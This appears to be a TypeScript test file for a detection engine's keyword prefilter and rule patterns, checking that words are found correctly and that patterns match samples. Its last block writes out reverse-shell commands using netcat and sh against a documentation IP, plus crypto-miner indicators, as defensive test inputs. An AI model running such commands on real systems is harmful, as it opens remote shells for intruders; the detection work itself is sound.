import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { commandRules } from '../../src/score/rules/commands.ts';
import { createWordFinder, wordEnd } from '../../src/score/rules/keyword-finder.ts';
import { prefilter } from '../../src/score/rules/keyword-prefilter.ts';
import { logRules } from '../../src/score/rules/log-lines.ts';
import { queryRules } from '../../src/score/rules/queries.ts';
import type { TextRule } from '../../src/score/rules/text-rule.ts';
import { webRules } from '../../src/score/rules/web.ts';
import { wireRules } from '../../src/score/rules/wire.ts';

const lists = [webRules, queryRules, wireRules, commandRules, logRules];
const rules = lists.flat();

/** Whether every list that has the rule tells it as one that may hold. */
const isLikely = (text: string, rule: TextRule): boolean =>
  lists.every((list) => !list.includes(rule) || prefilter(text).likely(list).includes(rule));

/** The same by a search of its own for the one word. */
function stands(text: string, word: string): boolean {
  const lower = text.toLowerCase();
  if (!word.endsWith(wordEnd)) return lower.includes(word);
  return new RegExp(`${word.slice(0, -wordEnd.length)}(?![a-z0-9_])`).test(lower);
}

describe('the words of the rules', () => {
  const words = rules.flatMap((rule) => rule.words);

  it('are found in one pass as by looking for each: at the ends, in any case, across each other', () => {
    const owners = words.map((word) => [word]);
    const finder = createWordFinder(owners);
    const part = fc.oneof(
      fc.constantFrom(...words),
      fc.constantFrom(...words).map((word) => word.slice(0, -1).toUpperCase()),
      fc.constantFrom('nc', 'nc_', 'ncx', 'NC '),
      fc.string({ maxLength: 6 }),
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
        const text = parts.join('');
        const found = finder.find(text);
        owners.forEach(([word], at) => {
          assert.equal(
            ((found[at >>> 5]! >>> (at & 31)) & 1) === 1,
            stands(text, word!),
            `${word} in ${text}`,
          );
        });
      }),
      { numRuns: 2_000, seed: 5 },
    );
  });

  it('may have to end where they stand', () => {
    const finder = createWordFinder([[`nc${wordEnd}`]]);
    const isFound = (text: string): boolean => finder.find(text)[0] === 1;
    for (const text of ['nc', 'NC -e /bin/sh', 'rsync;nc\t-l', 'nc\u0141', 'once nc.'])
      assert.ok(isFound(text), text);
    for (const text of ['once', 'function', 'nc_', 'advance notice', 'nc2', 'n c'])
      assert.ok(!isFound(text), text);
  });

  it('are lower case, of Latin-1, and of two characters and more', () => {
    for (const word of words) {
      assert.equal(word, word.toLowerCase());
      assert.ok(word.length >= 2 && /^[\0-\xff]+$/.test(word), word);
    }
  });

  it('let a rule without words be tried on every text', () => {
    const always = rules.filter((rule) => rule.words.length === 0);
    assert.ok(always.length > 0);
    for (const rule of always) assert.ok(isLikely('', rule));
    assert.ok(!isLikely('benign words', webRules[0]!));
  });

  it('pass over no rule of a list that is not one of theirs', () => {
    const own = rules.slice(3, 9);
    assert.deepEqual(prefilter('benign words').likely(own), own);
  });
});

describe('a text that a rule’s pattern matches', () => {
  // What the patterns are for, in one line each where a rule was once tried on every text.
  for (const [id, text] of [
    ['reverse-shell', 'netcat 198.51.100.7 4444 -e /bin/sh'],
    ['reverse-shell', 'nc -e /bin/sh 198.51.100.7 4444'],
    ['reverse-shell', 'sh -i 5<&5'],
    ['miner', 'ps | grep x[Mm]iner'],
    ['miner', './x --donate-level 1'],
  ] as const)
    it(`has one of its words: ${text}`, () => {
      const rule = commandRules.find((one) => one.id === id);
      assert.ok(rule, id);
      assert.match(text, rule.pattern);
      assert.ok(isLikely(text, rule));
    });
});
